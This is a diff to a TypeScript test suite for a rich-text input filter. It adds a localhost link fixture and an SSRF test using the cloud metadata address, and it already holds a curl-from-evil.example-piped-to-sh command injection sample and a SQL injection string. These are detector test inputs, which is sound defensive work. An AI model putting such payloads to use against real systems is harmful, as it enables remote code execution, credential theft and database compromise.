@@ -32,6 +32,7 @@ const EDITOR_HTML: Record<string, string> = {
     '<p>Escape user input:</p><pre><code class="language-html">&lt;script&gt;alert(1)&lt;/script&gt;\n</code></pre><p>becomes text, not a tag.</p>',
   commandsInProse:
     "<p>Run <code>npm install</code> then set <code>PORT</code> to 3000 &amp; restart.</p><p>Windows users: <code>set NODE_ENV=production</code> in cmd.exe.</p>",
+  localLink: '<p>Start the server, then view the website at <a href="http://localhost:3000">http://localhost:3000</a>.</p>',
   dataImage:
     '<p><img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==" alt="pixel"></p><p><img src="https://img.shields.io/badge/x-y-blue?logo=data:image/svg%2bxml;base64,PHN2Zz4=" alt="badge"></p>',
 };
@@ -91,6 +92,8 @@ describe("shield richText", () => {
     assert.equal((sql.reason as ShieldReason).class, "sqli");
     const shell = await protectJson(RICH, { content: "<p>hello</p><p>$(curl -s https://evil.example/x.sh | sh)</p>" });
     assert.equal((shell.reason as ShieldReason).class, "cmdi");
+    const metadata = await protectJson(RICH, { content: '<p>Chart:</p><img src="http://169.254.169.254/latest/meta-data/">' });
+    assert.equal((metadata.reason as ShieldReason).class, "ssrf");
     const inAttribute = await protectJson(RICH, { content: `<a title="' OR 1=1--" href="https://example.com">x</a>` });
     assert.equal((inAttribute.reason as ShieldReason).class, "sqli");
   });
